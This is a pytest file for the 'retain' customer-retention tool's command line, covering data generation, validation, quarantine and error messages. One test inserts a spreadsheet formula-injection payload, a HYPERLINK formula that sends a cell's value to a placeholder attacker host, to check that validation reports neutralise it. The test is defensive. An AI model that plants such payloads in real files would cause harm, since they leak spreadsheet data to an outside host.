"""The `retain` command line, run as the real installed entry point in a subprocess."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from retain.contract import contract_markdown
from tests.retain.helpers import problems_of, write_csv_with_a_negative_amount

SCRIPT = Path(sys.executable).parent / "retain"
MAIN = "from retain.cli import main; main()"  # the same as the script, if it is not installed
README = Path(__file__).resolve().parents[2] / "README.md"


def retain(*args: str | Path, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """Run `retain ARGS` in `cwd` with a clean RETAIN_* environment and a wide terminal."""
    command = [str(SCRIPT)] if SCRIPT.is_file() else [sys.executable, "-c", MAIN]
    environment = {key: value for key, value in os.environ.items()
                   if not key.startswith("RETAIN_") and key != "MLFLOW_TRACKING_URI"}
    environment.update({"COLUMNS": "250", "NO_COLOR": "1", "MLFLOW_DISABLE_TELEMETRY": "true"})
    environment.update(env or {})
    return subprocess.run([*command, *map(str, args)], cwd=cwd, env=environment, capture_output=True,
                          text=True, timeout=120)


def assert_clean_failure(result: subprocess.CompletedProcess[str], code: int) -> None:
    assert result.returncode == code, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`retain generate --customers 500 --seed 1 --out DIR`, run once for this module."""
    out = tmp_path_factory.mktemp("cli") / "sample"
    result = retain("generate", "--customers", "500", "--seed", "1", "--out", out, cwd=out.parent)
    assert result.returncode == 0, result.stderr
    assert "Generated 500 customers" in result.stdout
    return out


@pytest.fixture
def bad_csv_dir(tmp_path: Path, generated: Path) -> Path:
    """The generated data as CSV, with a negative amount in data row 3 of transactions.csv."""
    return write_csv_with_a_negative_amount(generated, tmp_path / "bad")


def test_help_lists_the_commands(tmp_path: Path) -> None:
    result = retain("--help", cwd=tmp_path)

    assert result.returncode == 0
    for command in ("generate", "validate", "contract"):
        assert command in result.stdout


def test_generate_writes_the_four_files(generated: Path) -> None:
    names = sorted(path.name for path in generated.iterdir())

    assert names == ["customers.parquet", "interactions.parquet", "transactions.parquet", "truth.parquet"]
    assert len(pd.read_parquet(generated / "customers.parquet")) == 500


def test_validate_good_data_prints_the_summary(generated: Path) -> None:
    result = retain("validate", generated, cwd=generated.parent)

    assert result.returncode == 0, result.stderr
    assert "valid" in result.stdout
    assert "customers" in result.stdout and "500" in result.stdout
    assert "transactions" in result.stdout and "interactions" in result.stdout
    assert "churned share truth" in result.stdout


def test_validate_bad_csv_fails_and_names_the_cell(bad_csv_dir: Path, tmp_path: Path) -> None:
    result = retain("validate", bad_csv_dir, "--report", tmp_path / "report.csv", cwd=tmp_path)

    assert_clean_failure(result, 1)
    line = next(line for line in result.stderr.splitlines() if "transactions.csv" in line)
    assert line == f"{bad_csv_dir / 'transactions.csv'}, row 3, column 'amount', value '-7.5': must be >= 0"
    report = pd.read_csv(tmp_path / "report.csv")
    assert report[["row", "column", "rule"]].values.tolist() == [[3, "amount", "must be >= 0"]]


def test_validate_report_quotes_cells_a_spreadsheet_would_run(bad_csv_dir: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    transactions = pd.read_csv(bad_csv_dir / "transactions.csv", dtype=str, keep_default_na=False)
    transactions.loc[4, "amount"] = formula
    transactions.to_csv(bad_csv_dir / "transactions.csv", index=False)

    result = retain("validate", bad_csv_dir, "--report", tmp_path / "report.csv", cwd=tmp_path)

    assert_clean_failure(result, 1)
    report = pd.read_csv(tmp_path / "report.csv", dtype=str)
    assert report[["row", "column", "value"]].values.tolist() == [["3", "amount", "'-7.5"],
                                                                    ["5", "amount", "'" + formula]]


def test_validate_with_quarantine_goes_on(bad_csv_dir: Path, tmp_path: Path) -> None:
    quarantine = tmp_path / "q"

    result = retain("validate", bad_csv_dir, "--quarantine", quarantine, cwd=tmp_path)

    assert result.returncode == 0, result.stderr
    assert "Set aside 1 bad row(s)" in result.stdout
    bad = pd.read_csv(quarantine / "transactions.csv")
    assert list(bad["row"]) == [3] and list(bad["problems"]) == ["amount: must be >= 0"]


def test_missing_data_dir_is_a_clean_error(tmp_path: Path) -> None:
    result = retain("validate", tmp_path / "nowhere", cwd=tmp_path)

    assert_clean_failure(result, 2)
    assert "data folder not found" in result.stderr


# ------------------------------------------------------ in process: the same main(), without the start-up


def test_generate_csv_format_with_seed_from_settings(run_main, tmp_path: Path, generated: Path) -> None:
    code, out, _ = run_main("generate", "--customers", "500", "--out", "csvdata", "--format", "csv",
                            RETAIN_SEED="1")

    assert code == 0
    assert "Generated 500 customers" in out
    data_dir = tmp_path / "csvdata"
    assert sorted(p.name for p in data_dir.iterdir()) == [
        "customers.csv", "interactions.csv", "transactions.csv", "truth.parquet"]
    from_csv = pd.read_csv(data_dir / "customers.csv", dtype=str)
    from_seed_flag = pd.read_parquet(generated / "customers.parquet")  # `--seed 1`
    assert list(from_csv["customer_id"]) == list(from_seed_flag["customer_id"])
    assert list(from_csv["segment"]) == list(from_seed_flag["segment"])
    assert list(from_csv["country"]) == list(from_seed_flag["country"])


def test_generate_rejects_an_unknown_format(run_main) -> None:
    code, _, err = run_main("generate", "--customers", "5", "--out", "x", "--format", "xml")

    assert code == 2
    assert "--format must be parquet or csv" in err


def test_validate_uses_the_data_dir_setting(run_main, generated: Path) -> None:
    code, out, _ = run_main("validate", RETAIN_DATA_DIR=str(generated))

    assert code == 0
    assert "500" in out and "valid" in out


def test_quarantine_cannot_fix_a_missing_column(run_main, bad_csv_dir: Path, tmp_path: Path) -> None:
    customers = pd.read_csv(bad_csv_dir / "customers.csv", dtype=str)
    customers.drop(columns=["signup_date"]).to_csv(bad_csv_dir / "customers.csv", index=False)

    code, _, err = run_main("validate", bad_csv_dir, "--quarantine", tmp_path / "q")

    assert code == 1
    assert "2 problem(s) in the input data" in err  # amount and column; no "unknown customer" per event
    assert "signup_date" in err and "missing required column" in err
    assert "cannot be quarantined" in err
    assert not (tmp_path / "q").exists()


def test_unreadable_file_is_a_clean_error(run_main, generated: Path, tmp_path: Path) -> None:
    data_dir = tmp_path / "broken"
    shutil.copytree(generated, data_dir)
    (data_dir / "interactions.parquet").write_bytes(b"PAR1 but not really")

    code, _, err = run_main("validate", data_dir)

    assert code == 2
    assert "interactions.parquet" in err.replace(" ", "") and "cannot be read" in err


def test_bad_setting_is_a_clean_error(run_main) -> None:
    code, _, err = run_main("generate", "--customers", "5", "--out", "x", RETAIN_SEED="abc")

    assert code == 2
    assert "invalid setting" in err and "seed" in err


def test_a_bad_duckdb_memory_limit_is_a_clean_error(run_main, generated: Path) -> None:
    code, _, err = run_main("validate", generated, RETAIN_DUCKDB_MEMORY_LIMIT="lots")

    assert code == 2
    assert "invalid setting" in err and "duckdb_memory_limit" in err and "'lots' is not a memory size" in err


def test_running_out_of_the_duckdb_memory_limit_says_which_settings_help(run_main, tmp_path: Path) -> None:
    from retain.sample import write_sample
    from retain.simulate import generate

    data = tmp_path / "data"
    # 500 customers fit the smallest limit, 16MB, since the features are computed family by family
    write_sample(generate(5000, 3), data)
    last_day = _event_days(data)[1]
    code, out, err = run_main("features", "--data", data, "--as-of", last_day, "--out",
                              tmp_path / "features.parquet", RETAIN_DUCKDB_MEMORY_LIMIT="16MB")

    assert code == 1, out + err
    assert "Out of Memory" in err and "raise RETAIN_DUCKDB_MEMORY_LIMIT" in err
    assert "Traceback" not in out + err


def test_contract_command_prints_the_readme_tables(run_main) -> None:
    code, out, _ = run_main("contract")

    assert code == 0
    assert out == " ".join(contract_markdown().split())
    assert contract_markdown() in README.read_text(), "README.md's contract is stale: paste `retain contract`"


def _event_days(data: Path) -> tuple[str, str]:
    """The first and last day with a purchase or a contact opened or closed, read straight from the files."""
    transactions = pd.read_parquet(data / "transactions.parquet")
    interactions = pd.read_parquet(data / "interactions.parquet")
    stamps = pd.concat([transactions["timestamp"], interactions["opened_at"], interactions["closed_at"]]).dropna()
    return str(stamps.min().date()), str(stamps.max().date())


@pytest.mark.parametrize("command", ["features", "score", "train"])
@pytest.mark.parametrize(("as_of", "where"), [("2023-12-31", "before the first event"),
                                              ("2026-01-01", "after the last event")])
def test_an_as_of_outside_the_data_is_refused_with_its_dates(run_main, generated: Path, tmp_path: Path,
                                                             command: str, as_of: str, where: str) -> None:
    out_file = tmp_path / "features.parquet"
    extra = ["--out", out_file] if command == "features" else []

    code, out, err = run_main(command, "--data", generated, "--as-of", as_of, *extra)

    assert code == 2, out + err
    assert f"error: --as-of {as_of} is {where} in the data" in err
    first, last = _event_days(generated)
    assert f"the data runs from {first} to {last}" in err
    assert "Traceback" not in out + err
    assert not out_file.exists() and not (tmp_path / "mlruns").exists()  # refused before any work


# ------------------------------------------------------ not on a terminal (a CI log, `| tee`): every value whole


def test_validate_in_a_pipe_prints_each_problem_whole_on_one_line(write_data, frames) -> None:
    from typer.testing import CliRunner

    from retain import cli

    frames["transactions"].loc[1, "customer_id"] = "NO-SUCH-CUSTOMER-XYZ-0123456789-LONG"
    frames["transactions"].loc[3, "amount"] = "-123456789.123456789"
    data_dir = write_data(frames)
    expected = [str(problem) for problem in problems_of(data_dir)]

    result = CliRunner().invoke(cli.app, ["validate", str(data_dir)])  # its streams are not terminals

    assert result.exit_code == 1, result.output
    assert len(expected) == 2 and len(expected[0]) > 80
    assert result.stderr.splitlines()[:3] == ["2 problem(s) in the input data:", *expected]


def test_at_risk_list_in_a_pipe_keeps_every_row_on_one_line(tmp_path: Path, capsys) -> None:
    from retain import cli

    reasons = ["7 contacts in the last 90 days, 3 of them transferred", "last case still open after 41 days",
               "no purchase for 212 days (usually every 30)"]
    pd.DataFrame({"customer_id": ["C-[vip]-0000001-WITH-A-RATHER-LONG-IDENTIFIER", "C2"],
                  "risk_tier": ["high", "lapsed"], "churn_probability": [0.91, 0.2], "clv": [1234.5, 10.0],
                  "value_at_risk": [1123.4, 2.0], "best_action": ["resolve_open_case", None],
                  "value_saved": [456.75, 0.0], "reason_1": [reasons[0], None], "reason_2": [reasons[1], None],
                  "reason_3": [reasons[2], None]}).to_parquet(tmp_path / "batch.parquet")

    cli._print_at_risk(tmp_path / "batch.parquet", 10)

    lines = capsys.readouterr().out.splitlines()
    first = next(line for line in lines if "C-[vip]-0000001-WITH-A-RATHER-LONG-IDENTIFIER" in line)
    assert reasons[0] in first and "91%" in first and "1,123.40" in first
    assert "Resolve the open case" in first and "456.75" in first
    assert len([line for line in lines if "C2" in line]) == 1
    assert "1 active" in "\n".join(lines) and "tier high 1 (100.0% of the active)" in "\n".join(lines)


HEAVY = ("pydantic", "pandas", "numpy", "pandera", "ibis", "duckdb", "xgboost", "sklearn", "lifetimes", "mlflow",
         "matplotlib", "scipy")
LOADED = "import json, runpy, sys\nsys.argv = ['retain', *sys.argv[1:]]\n" \
         "try:\n    runpy.run_module('retain.cli', run_name='__main__')\nexcept SystemExit:\n    pass\n" \
         "print(json.dumps(sorted({m.split('.')[0] for m in sys.modules})), file=sys.stderr)"


def _libraries_loaded(*args: str | Path, cwd: Path) -> set[str]:
    done = subprocess.run([sys.executable, "-c", LOADED, *map(str, args)], cwd=cwd, capture_output=True,
                          text=True, timeout=120)
    import json

    return set(json.loads(done.stderr.strip().splitlines()[-1]))


def test_help_loads_no_data_or_ml_library(tmp_path: Path) -> None:
    """`retain --help` stays instant: nothing heavier than typer and rich (pydantic alone costs ~0.25 s)."""
    assert _libraries_loaded("--help", cwd=tmp_path) & set(HEAVY) == set()


def test_validate_loads_no_ml_library(generated: Path, tmp_path: Path) -> None:
    loaded = _libraries_loaded("validate", generated, cwd=tmp_path)
    assert "ibis" in loaded  # it did validate, with the engine
    assert loaded & {"xgboost", "sklearn", "lifetimes", "mlflow", "matplotlib"} == set()
